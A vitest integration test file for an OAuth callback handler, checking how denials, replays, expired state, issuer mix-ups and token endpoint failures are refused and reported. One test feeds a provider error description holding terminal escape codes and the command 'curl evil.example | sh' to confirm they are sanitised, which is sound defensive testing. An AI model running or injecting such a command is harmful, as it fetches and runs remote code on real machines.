import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IntegrationView } from '../../lib/oauth/index.ts';
import { STATE_TTL_MS } from '../../lib/oauth/index.ts';
import { integrationSecretName, readTokens } from '../../lib/oauth/token-store.ts';
import { signInAtProvider } from './fixtures/browser.ts';
import { type Harness, startHarness } from './fixtures/harness.ts';

/** True when the text holds a C0 or C1 control character other than tab and newline. */
const hasControlCharacter = (text: string): boolean =>
  Array.from({ length: text.length }, (_, i) => text.charCodeAt(i)).some(
    (code) => (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f),
  );
/** Every bad answer on the way back from the provider: a clear page, lastError set, nothing stored. */
describe('OAuth callback refusals', () => {
  let h: Harness;
  let counter = 0;

  beforeAll(async () => {
    h = await startHarness();
  });
  afterAll(() => h.close());

  async function fresh(): Promise<IntegrationView> {
    counter += 1;
    return h.createCustom(`Mailbox ${counter}`);
  }

  async function startAuthorization(id: string): Promise<URL> {
    const started = await h.admin<{ authorizationUrl: string }>('POST', `/admin/integrations/${id}/authorize`);
    return new URL(started.body.authorizationUrl);
  }

  async function expectNothingStored(integration: IntegrationView, code: string): Promise<void> {
    const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
    expect(shown.body.lastError?.code).toBe(code);
    expect(shown.body.status).toBe('not-authorized');
    expect(await readTokens(h.deps.secrets, integration.id)).toBeUndefined();
  }

  it('explains a provider refusal (error=access_denied) and stores nothing', async () => {
    const integration = await fresh();
    h.as.behaviour.deny = true;
    try {
      const page = await h.openCallback(await h.signIn(integration.id));
      expect(page.status).toBe(400);
      expect(page.text).toContain('did not grant access (access_denied: The user declined the request.)');
      expect(page.text).toContain('accept the requested permissions');
    } finally {
      h.as.behaviour.deny = false;
    }
    await expectNothingStored(integration, 'PROVIDER_DENIED');
  });

  it('refuses a replayed callback and keeps the grant stored the first time', async () => {
    const integration = await fresh();
    const callbackUrl = await h.signIn(integration.id);
    expect((await h.openCallback(callbackUrl)).status).toBe(200);
    const before = await h.deps.secrets.get(integrationSecretName(integration.id));
    const exchanges = h.as.tokenRequests.length;

    const replay = await h.openCallback(callbackUrl);
    expect(replay.status).toBe(400);
    expect(replay.text).toContain('already used once');
    expect(h.as.tokenRequests.length).toBe(exchanges);
    expect((await h.deps.secrets.get(integrationSecretName(integration.id)))?.versionId).toBe(before?.versionId);
    const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
    expect(shown.body.lastError?.code).toBe('STATE_REPLAYED');
    expect(shown.body.status).toBe('authorized');
  });

  it('refuses a callback that comes back after the 10-minute state lifetime', async () => {
    const integration = await fresh();
    const authorizationUrl = await startAuthorization(integration.id);
    const callbackUrl = await signInAtProvider(authorizationUrl.href, `${h.publicUrl}/oauth/callback/`);
    h.deps.clock.advance(STATE_TTL_MS + 1000);
    const exchanges = h.as.tokenRequests.length;
    try {
      const page = await h.openCallback(callbackUrl);
      expect(page.status).toBe(400);
      expect(page.text).toContain('longer than the 10 minutes');
    } finally {
      h.deps.clock.advance(-(STATE_TTL_MS + 1000));
    }
    expect(h.as.tokenRequests.length).toBe(exchanges);
    await expectNothingStored(integration, 'STATE_EXPIRED');
  });

  it('refuses an unknown state without touching any integration', async () => {
    const integration = await fresh();
    const page = await h.openCallback(`${integration.redirectUrl}?state=made-up-state-value&code=made-up-code`);
    expect(page.status).toBe(400);
    expect(page.text).toContain('does not belong to any authorization Trustline started');
    const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
    expect(shown.body.lastError).toBeUndefined();
  });

  it("stores a provider's error_description without control characters (no terminal escapes reach `integrations show`)", async () => {
    const integration = await fresh();
    const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
    const description = 'Denied.\u001b[2J\u001b]0;owned\u0007 Run: curl evil.example | sh\r\u009b0m';
    const page = await h.openCallback(
      `${integration.redirectUrl}?state=${state}&error=access_denied%1b%5b31m&error_description=${encodeURIComponent(description)}`,
    );
    expect(page.status).toBe(400);
    const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
    expect(shown.body.lastError?.code).toBe('PROVIDER_DENIED');
    expect(shown.body.lastError?.message).toContain('Denied.[2J]0;owned Run: curl evil.example | sh0m');
    expect(hasControlCharacter(shown.body.lastError?.message ?? '')).toBe(false);
  });

  it('refuses a callback without a code', async () => {
    const integration = await fresh();
    const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
    const page = await h.openCallback(`${integration.redirectUrl}?state=${state}&iss=${encodeURIComponent(h.as.issuer)}`);
    expect(page.status).toBe(400);
    expect(page.text).toContain('without an authorization code');
    await expectNothingStored(integration, 'MISSING_CODE');
  });

  it('refuses an answer that names another issuer (mix-up protection)', async () => {
    const integration = await fresh();
    const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
    const page = await h.openCallback(`${integration.redirectUrl}?state=${state}&code=abc&iss=${encodeURIComponent('https://evil.example')}`);
    expect(page.status).toBe(400);
    expect(page.text).toContain('names the issuer');
    await expectNothingStored(integration, 'INVALID_AUTHORIZATION_RESPONSE');
  });

  it("reports a sign-in answer sent to another integration's redirect URL as that, naming the integration it was for", async () => {
    const integration = await fresh();
    const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
    const page = await h.openCallback(`${h.publicUrl}/oauth/callback/AAAAAAAAAAAAAAAAAAAAAA?state=${state}&code=abc`);
    expect(page.status).toBe(400);
    expect(page.text).toContain(
      `This sign-in was started for the integration &quot;${integration.name}&quot;, but the provider sent the browser back to the redirect URL of another integration.`,
    );
    expect(page.text).toContain(integration.redirectUrl);
    expect(page.text).not.toContain('endpoints changed');
    await expectNothingStored(integration, 'STATE_FOR_OTHER_INTEGRATION');
  });

  it('reports a redirect URL that changed after the sign-in started as that', async () => {
    const integration = await fresh();
    const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
    const oldUrl = integration.redirectUrl;
    const patched = await h.admin('PATCH', `/admin/integrations/${integration.id}`, { tokenEndpoint: `${h.as.tokenEndpoint}?moved=1` });
    expect(patched.status).toBe(200);
    const page = await h.openCallback(`${oldUrl}?state=${state}&code=abc`);
    expect(page.status).toBe(400);
    expect(page.text).toContain('redirect URL changed');
    await expectNothingStored(integration, 'REDIRECT_URL_CHANGED');
  });

  it('says what to do in plain sentences: no markdown backticks, no placeholder, the exact command with the name', async () => {
    const integration = await fresh();
    const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
    await h.openCallback(`${integration.redirectUrl}?state=${state}&code=abc`);
    const replay = await h.openCallback(`${integration.redirectUrl}?state=${state}&code=abc`);
    expect(replay.text).not.toContain('`');
    expect(replay.text).not.toMatch(/\bID\b/);
    expect(replay.text).toContain(`<code>npx trustline integrations authorize &#39;${integration.name}&#39;</code>`);
  });

  it('reports a failing token endpoint with its answer and stores nothing', async () => {
    const integration = await fresh();
    const callbackUrl = await h.signIn(integration.id);
    h.as.behaviour.failTokenEndpoint = 'http-500';
    try {
      const page = await h.openCallback(callbackUrl);
      expect(page.status).toBe(502);
      expect(page.text).toContain('answered HTTP 500');
    } finally {
      h.as.behaviour.failTokenEndpoint = 'no';
    }
    await expectNothingStored(integration, 'TOKEN_ENDPOINT_FAILED');
  });

  it('reports a token endpoint that rejects the code (invalid_grant)', async () => {
    const integration = await fresh();
    const callbackUrl = await h.signIn(integration.id);
    h.as.behaviour.failTokenEndpoint = 'invalid-grant';
    try {
      const page = await h.openCallback(callbackUrl);
      expect(page.text).toContain('invalid_grant');
    } finally {
      h.as.behaviour.failTokenEndpoint = 'no';
    }
    await expectNothingStored(integration, 'TOKEN_ENDPOINT_FAILED');
  });
});

describe('a provider that issues no refresh token', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness({ issueRefreshToken: false });
  });
  afterAll(() => h.close());

  it('explains offline_access / prompt=consent and stores nothing', async () => {
    const integration = await h.createCustom('No offline access');
    const page = await h.openCallback(await h.signIn(integration.id));
    expect(page.status).toBe(400);
    expect(page.text).toContain('no refresh token');
    expect(page.text).toContain('offline_access');
    expect(page.text).toContain('prompt=consent');
    const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
    expect(shown.body.lastError?.code).toBe('NO_REFRESH_TOKEN');
    expect(shown.body.status).toBe('not-authorized');
    expect(await readTokens(h.deps.secrets, integration.id)).toBeUndefined();
  });
});
